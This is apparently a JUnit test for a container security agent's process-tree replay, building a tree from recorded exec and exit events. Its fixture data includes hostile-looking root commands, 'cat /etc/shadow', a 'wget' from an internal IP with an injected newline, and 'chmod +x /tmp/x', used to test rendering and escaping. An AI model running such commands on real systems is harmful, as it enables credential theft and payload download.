package dev.dockward.agent.replay;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** A recorded container session: a shell, its children, a reused pid, an exec chain, exits. */
class ProcessTreeTest {
  private static Map<String, Object> exec(
      String time, long pid, long ppid, long start, String name, String cmdline) {
    Map<String, Object> r = new LinkedHashMap<>();
    r.put("kind", "event");
    r.put("time", time);
    r.put("type", "exec");
    r.put(
        "process",
        Map.of(
            "pid",
            pid,
            "ppid",
            ppid,
            "start_time",
            start,
            "name",
            name,
            "cmdline",
            cmdline,
            "uid",
            0L));
    return r;
  }

  private static Map<String, Object> exit(
      String time, long pid, long start, long status, long lifetimeMs) {
    Map<String, Object> r = new LinkedHashMap<>();
    r.put("kind", "event");
    r.put("time", time);
    r.put("type", "exit");
    r.put("process", Map.of("pid", pid, "start_time", start, "name", "x"));
    r.put("exit", Map.of("pid", pid, "status", status, "signal", 0L, "lifetime_ms", lifetimeMs));
    return r;
  }

  @Test
  void aShellSessionBecomesATreeWithExecChainsExitsAndAReusedPidKeptApart() {
    ProcessTree tree = new ProcessTree();
    List.of(
            exec("2026-11-23T02:00:00.000Z", 100, 90, 1000, "sh", "sh"),
            exec("2026-11-23T02:00:01.000Z", 101, 100, 1100, "ls", "ls /etc"),
            exit("2026-11-23T02:00:01.004Z", 101, 1100, 0, 4),
            exec("2026-11-23T02:00:02.000Z", 102, 100, 1200, "sh", "sh -c cat /etc/shadow"),
            exec("2026-11-23T02:00:02.001Z", 102, 100, 1200, "cat", "cat /etc/shadow"),
            exit("2026-11-23T02:00:02.010Z", 102, 1200, 1, 10),
            // pid 101 again, a new process (another start time)
            exec(
                "2026-11-23T02:00:03.000Z", 101, 100, 1300, "wget", "wget http://10.0.0.9/x\nEVIL"),
            exec("2026-11-23T02:00:03.500Z", 103, 101, 1350, "chmod", "chmod +x /tmp/x"))
        .forEach(tree::add);

    assertEquals(
        List.of(
            "2026-11-23T02:00:00.000Z  100 sh uid=0 [sh]",
            "2026-11-23T02:00:01.000Z    101 ls uid=0 [ls /etc] (exited 0 after 0.004s)",
            "2026-11-23T02:00:02.000Z    102 sh → cat uid=0 [cat /etc/shadow] (exited 1 after 0.01s)",
            "2026-11-23T02:00:03.000Z    101 wget uid=0 [wget http://10.0.0.9/x\\nEVIL]",
            "2026-11-23T02:00:03.500Z      103 chmod uid=0 [chmod +x /tmp/x]"),
        tree.render());
  }

  @Test
  void recordsWithoutAProcessAreIgnored() {
    ProcessTree tree = new ProcessTree();
    tree.add(Map.of("kind", "alert", "time", "2026-11-23T02:00:00.000Z"));
    assertEquals(List.of(), tree.render());
  }
}
